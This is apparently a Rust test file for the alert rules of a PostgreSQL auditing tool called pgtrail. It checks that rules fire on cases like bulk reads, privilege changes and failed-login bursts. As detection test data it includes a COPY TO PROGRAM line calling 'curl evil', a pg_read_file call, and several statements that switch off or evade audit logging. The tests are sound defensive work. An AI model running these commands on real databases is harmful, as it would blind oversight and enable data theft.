//! The built-in rule pack: each rule fires on what it is for and not on its look-alikes.

use chrono::{TimeZone, Utc};
use pgtrail_event::{ActivityEvent, EventClass, ObjectKind, ObjectRef};
use pgtrail_rules::{Engine, RuleSet};

const FILE: &str = r#"
builtin = true

[settings]
service_accounts = ["svc_app"]
bulk_read_rows = 1000
business_hours = [8, 18]
"#;

/// A Tuesday, 10:00 UTC: inside business hours.
fn event(class: EventClass, command: &str, user: &str) -> ActivityEvent {
    let mut e = ActivityEvent::new(class, command, Utc.with_ymd_and_hms(2026, 11, 24, 10, 0, 0).unwrap());
    e.db_user_name = Some(user.into());
    e.session_id = Some("1.1".into());
    e
}

fn fired(event: &ActivityEvent) -> Vec<String> {
    let mut engine = Engine::new(RuleSet::parse(FILE, "rules.toml").unwrap());
    let mut names: Vec<String> = engine.process(event).into_iter().map(|a| a.rule).collect();
    names.sort();
    names
}

#[test]
fn the_pack_loads_with_one_line() {
    let set = RuleSet::parse("builtin = true\n", "rules.toml").unwrap();
    assert_eq!(set.rules.len(), 15);
}

#[test]
fn each_rule_fires_on_its_case() {
    let mut dml = event(EventClass::Write, "UPDATE", "alice");
    dml.objects = vec![ObjectRef { kind: ObjectKind::Relation, name: "accounts".into() }];
    assert_eq!(fired(&dml), vec!["human DML on application tables"]);
    let mut service = dml.clone();
    service.db_user_name = Some("svc_app".into());
    assert!(fired(&service).is_empty());
    let mut select = dml.clone();
    (select.class, select.command) = (EventClass::Read, "SELECT".into());
    assert_eq!(fired(&select), vec!["human DML on application tables"]);

    assert_eq!(fired(&event(EventClass::Role, "GRANT", "alice")), vec!["privilege change"]);
    let mut password = event(EventClass::Role, "ALTER ROLE", "alice");
    password.command_text = Some("ALTER ROLE bob PASSWORD <REDACTED>".into());
    assert_eq!(fired(&password), vec!["password change", "privilege change"]);

    let mut bulk = event(EventClass::Read, "SELECT", "alice");
    bulk.row_count = Some(5000);
    assert_eq!(fired(&bulk), vec!["bulk read"]);
    bulk.row_count = Some(10);
    assert!(fired(&bulk).is_empty());

    let mut program = event(EventClass::Write, "COPY", "alice");
    program.command_text = Some("COPY t TO PROGRAM 'curl evil'".into());
    assert_eq!(fired(&program), vec!["server file or program access"]);
    let mut read_file = event(EventClass::Read, "SELECT", "alice");
    read_file.objects = vec![ObjectRef { kind: ObjectKind::Function, name: "pg_read_file".into() }];
    assert_eq!(fired(&read_file), vec!["server file or program access"]);

    let mut night = event(EventClass::Read, "SELECT", "alice");
    night.log_time = Utc.with_ymd_and_hms(2026, 11, 24, 3, 0, 0).unwrap();
    assert_eq!(fired(&night), vec!["activity outside business hours"]);
    let mut sunday = night.clone();
    sunday.log_time = Utc.with_ymd_and_hms(2026, 11, 22, 11, 0, 0).unwrap();
    assert_eq!(fired(&sunday), vec!["activity outside business hours"]);

    assert_eq!(fired(&event(EventClass::Connect, "CONNECT", "postgres")), vec!["superuser session"]);
    // Any role PostgreSQL reports as a superuser, listed or not.
    let mut admin = event(EventClass::Connect, "CONNECT", "dba_jane");
    admin.superuser = Some(true);
    assert_eq!(fired(&admin), vec!["superuser session"]);
    admin.superuser = Some(false);
    assert!(fired(&admin).is_empty());
    assert!(fired(&event(EventClass::Connect, "CONNECT", "alice")).is_empty());
    assert_eq!(fired(&event(EventClass::Ddl, "CREATE TABLE", "alice")), vec!["DDL"]);

    let mut stopped = event(EventClass::Misc, "CAPTURE STOPPED", "-");
    stopped.kind = pgtrail_event::EventKind::Control;
    assert_eq!(fired(&stopped), vec!["capture stopped, configuration changed or keys rotated"]);
    let mut loss = event(EventClass::Misc, "EVENTS LOST", "-");
    loss.kind = pgtrail_event::EventKind::Loss;
    assert_eq!(fired(&loss), vec!["events lost"]);
}

#[test]
fn a_burst_of_failed_logins_fires_per_user() {
    let mut engine = Engine::new(RuleSet::parse(FILE, "rules.toml").unwrap());
    let mut alerts = Vec::new();
    for i in 0..5 {
        let mut e = event(EventClass::Connect, "CONNECT", "mallory");
        e.sql_state = Some("28P01".into());
        e.remote_host = Some("10.9.9.9".into());
        e.log_time += chrono::Duration::seconds(i);
        alerts.extend(engine.process(&e));
    }
    let names: Vec<&str> = alerts.iter().map(|a| a.rule.as_str()).collect();
    assert_eq!(names, vec!["failed login burst per user"]);
}

/// Audit of the auditor: the statement texts as the proxy and pgAudit record them, with
/// the command names PostgreSQL gives them.
#[test]
fn attempts_to_weaken_auditing_are_critical() {
    let weakening = [
        (EventClass::MiscSet, "SET", "SET pgaudit.log = 'none'"),
        (EventClass::MiscSet, "RESET", "RESET pgaudit.log"),
        (EventClass::Misc, "ALTER SYSTEM", "ALTER SYSTEM SET shared_preload_libraries = ''"),
        (EventClass::Misc, "ALTER SYSTEM", "alter system set logging_collector = off"),
        (EventClass::Misc, "ALTER SYSTEM", "ALTER SYSTEM SET log_destination = 'syslog'"),
        (EventClass::Role, "ALTER ROLE", "ALTER ROLE app SET pgaudit.log TO 'none'"),
        (EventClass::Ddl, "ALTER DATABASE", "ALTER DATABASE app SET log_statement = 'none'"),
        (EventClass::Ddl, "DROP EXTENSION", "DROP EXTENSION pgaudit"),
        (EventClass::Read, "SELECT", "SELECT pg_reload_conf()"),
        (EventClass::Read, "SELECT", "SELECT set_config('pgaudit.log', 'none', false)"),
    ];
    for (class, command, text) in weakening {
        let mut e = event(class, command, "mallory");
        e.command_text = Some(text.into());
        assert!(fired(&e).contains(&"auditing weakened".to_string()), "{text}: {:?}", fired(&e));
    }
    let harmless = [
        (EventClass::MiscSet, "SET", "SET search_path = app"),
        (EventClass::Read, "SELECT", "SELECT * FROM log_entries"),
        (EventClass::Ddl, "DROP EXTENSION", "DROP EXTENSION pg_trgm"),
        (EventClass::Misc, "SHOW", "SHOW pgaudit.log"),
    ];
    for (class, command, text) in harmless {
        let mut e = event(class, command, "mallory");
        e.command_text = Some(text.into());
        assert!(!fired(&e).contains(&"auditing weakened".to_string()), "{text}");
    }
}

#[test]
fn direct_connections_alert_unless_allowed() {
    let direct = |user: &str, host: &str| {
        let mut e = event(EventClass::Misc, "DIRECT CONNECTION", user);
        e.remote_host = Some(host.into());
        e
    };
    let rule = "direct connection bypassing pgtrail".to_string();
    assert!(fired(&direct("alice", "10.0.0.7")).contains(&rule));
    assert!(fired(&direct("postgres", "[local]")).contains(&rule), "local logins alert unless allowed");
    let allowing = format!("{FILE}direct_allowed_roles = [\"replicator\"]\ndirect_allowed_local = true\n");
    let mut engine = Engine::new(RuleSet::parse(&allowing, "rules.toml").unwrap());
    for (user, host) in [("replicator", "10.0.0.9"), ("postgres", "[local]")] {
        let names: Vec<String> = engine.process(&direct(user, host)).into_iter().map(|a| a.rule).collect();
        assert!(!names.contains(&rule), "{user}@{host}: {names:?}");
    }
    let names: Vec<String> = engine.process(&direct("alice", "10.0.0.7")).into_iter().map(|a| a.rule).collect();
    assert!(names.contains(&rule));
}

/// Issue 14.5: the statement traits that only deny rules saw are alert rule names too,
/// false on events that do not carry them (older journals, pgAudit records).
#[test]
fn alert_rules_see_the_statement_traits() {
    let rules = "[[rule]]\nname = \"unfiltered delete\"\ncondition = 'command == \"DELETE\" && !hasWhere'\nseverity = \"high\"\n";
    let mut engine = Engine::new(RuleSet::parse(rules, "rules.toml").unwrap());
    let mut filtered = ActivityEvent::new(EventClass::Write, "DELETE", chrono::Utc::now());
    filtered.has_where = true;
    assert!(engine.process(&filtered).is_empty());
    let unfiltered = ActivityEvent::new(EventClass::Write, "DELETE", chrono::Utc::now());
    assert_eq!(engine.process(&unfiltered).len(), 1);
    let json = serde_json::to_value(&filtered).unwrap();
    assert_eq!(json["hasWhere"], true);
    assert!(serde_json::to_value(&unfiltered).unwrap().get("hasWhere").is_none(), "written only when true");
}
